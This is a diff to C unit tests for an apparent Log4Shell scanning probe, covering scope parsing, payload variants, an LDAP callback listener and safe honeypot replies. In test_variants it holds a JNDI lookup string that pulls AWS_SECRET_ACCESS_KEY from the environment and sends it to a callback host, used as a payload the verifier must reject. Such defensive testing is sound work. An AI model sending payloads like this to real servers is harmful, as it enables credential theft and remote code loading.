@@ -51,7 +51,8 @@ static void test_scope(void **state) {
     static probe_scope sc;
     char err[256];
     memset(&sc, 0, sizeof sc);
-    assert_int_equal(probe_scope_add(&sc, "10.1.0.0/16, 192.0.2.7,2001:db8::/32", err, sizeof err), 0);
+    assert_int_equal(probe_scope_add(&sc, "10.1.0.0/16, 192.0.2.7,2001:db8::/32", err, sizeof err),
+                     0);
     assert_int_equal(probe_scope_add(&sc, "app.corp.example,*.lab.example", err, sizeof err), 0);
     assert_true(in_scope(&sc, "10.1.255.3"));
     assert_false(in_scope(&sc, "10.2.0.1"));
@@ -66,11 +67,11 @@ static void test_scope(void **state) {
     assert_false(probe_scope_name(&sc, "x.app.corp.example"));
     assert_false(probe_scope_name(&sc, "evilapp.corp.example"));
     assert_true(probe_scope_name(&sc, "a.b.lab.example"));
-    assert_false(probe_scope_name(&sc, "lab.example"));  /* *.x: subdomains only */
+    assert_false(probe_scope_name(&sc, "lab.example")); /* *.x: subdomains only */
     assert_false(probe_scope_name(&sc, "xlab.example"));
-    assert_false(probe_scope_name(&sc, "10.1.0.1"));     /* addresses go by CIDR */
-    static const char *const bad[] = {"10.0.0.0/33", "10.0.0.0/", "a@b", "host/8", "*.", "x;y",
-                                      "::1/129", "10.0.0.1/8x"};
+    assert_false(probe_scope_name(&sc, "10.1.0.1")); /* addresses go by CIDR */
+    static const char *const bad[] = {"10.0.0.0/33", "10.0.0.0/", "a@b",     "host/8",
+                                      "*.",          "x;y",       "::1/129", "10.0.0.1/8x"};
     for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
         probe_scope s2;
         memset(&s2, 0, sizeof s2);
@@ -128,13 +129,16 @@ static void test_variants(void **state) {
     /* what the check refuses */
     const char *reads = "${jndi:ldap://10.0.0.5:1389/${env:AWS_SECRET_ACCESS_KEY}}";
     assert_int_equal(probe_payload_verify(sc, reads, strlen(reads), "ldap", "10.0.0.5:1389", tok,
-                                          err, sizeof err), -1);
+                                          err, sizeof err),
+                     -1);
     snprintf(pl, sizeof pl, "${jndi:ldap://10.0.0.6:1389/%s}", tok);
-    assert_int_equal(probe_payload_verify(sc, pl, strlen(pl), "ldap", "10.0.0.5:1389", tok, err,
-                                          sizeof err), -1);
+    assert_int_equal(
+        probe_payload_verify(sc, pl, strlen(pl), "ldap", "10.0.0.5:1389", tok, err, sizeof err),
+        -1);
     snprintf(pl, sizeof pl, "$${jndi:ldap://10.0.0.5:1389/%s}", tok); /* escaped: inert */
-    assert_int_equal(probe_payload_verify(sc, pl, strlen(pl), "ldap", "10.0.0.5:1389", tok, err,
-                                          sizeof err), -1);
+    assert_int_equal(
+        probe_payload_verify(sc, pl, strlen(pl), "ldap", "10.0.0.5:1389", tok, err, sizeof err),
+        -1);
     /* too small a buffer */
     assert_int_equal(probe_payload(&v[0], "10.0.0.5:1389", tok, pl, 10), 0);
     assert_null(probe_variant_find("nope"));
@@ -180,9 +184,9 @@ static void test_listener(void **state) {
     /* LDAP: SearchRequest(msgid 2, base = the token, filter present objectClass) */
     unsigned char m[128];
     size_t dl = strlen(tok), o = 0;
-    static const unsigned char tail[] = {0x0a, 1, 0, 0x0a, 1, 0, 0x02, 1, 0, 0x02, 1, 0, 0x01, 1, 0,
-                                         0x87, 11, 'o', 'b', 'j', 'e', 'c', 't', 'C', 'l', 'a', 's',
-                                         's', 0x30, 0};
+    static const unsigned char tail[] = {0x0a, 1,   0,    0x0a, 1,   0,    0x02, 1,   0,    0x02,
+                                         1,    0,   0x01, 1,    0,   0x87, 11,   'o', 'b',  'j',
+                                         'e',  'c', 't',  'C',  'l', 'a',  's',  's', 0x30, 0};
     size_t body = 2 + dl + sizeof tail;
     m[o++] = 0x30;
     m[o++] = (unsigned char)(3 + 2 + body);
@@ -251,12 +255,37 @@ static void test_listener(void **state) {
     probe_listen_stop(l);
 }
 
+/* The one table of LDAP answers (proto/, shared with the honeypot): no
+ * request gets an entry (4) or a reference (19); bind and search get the
+ * answers a JNDI client turns into a NamingException. */
+static void test_ldap_safe_replies(void **state) {
+    (void)state;
+    int rop, code;
+    for (int op = -1; op < 64; op++) {
+        int act = proto_ldap_safe_reply(op, &rop, &code);
+        assert_true(act >= -1 && act <= 1);
+        if (act == 1) {
+            assert_int_not_equal(rop, 4);
+            assert_int_not_equal(rop, 19);
+        }
+    }
+    assert_int_equal(proto_ldap_safe_reply(PROTO_LDAP_BIND, &rop, &code), 1);
+    assert_int_equal(rop, 1);
+    assert_int_equal(code, 0);
+    assert_int_equal(proto_ldap_safe_reply(PROTO_LDAP_SEARCH, &rop, &code), 1);
+    assert_int_equal(rop, 5);
+    assert_int_equal(code, 32);
+    assert_int_equal(proto_ldap_safe_reply(PROTO_LDAP_UNBIND, &rop, &code), -1);
+    assert_int_equal(proto_ldap_safe_reply(PROTO_LDAP_ABANDON, &rop, &code), 0);
+}
+
 int main(void) {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_scope),
         cmocka_unit_test(test_tokens),
         cmocka_unit_test(test_variants),
         cmocka_unit_test(test_listener),
+        cmocka_unit_test(test_ldap_safe_replies),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
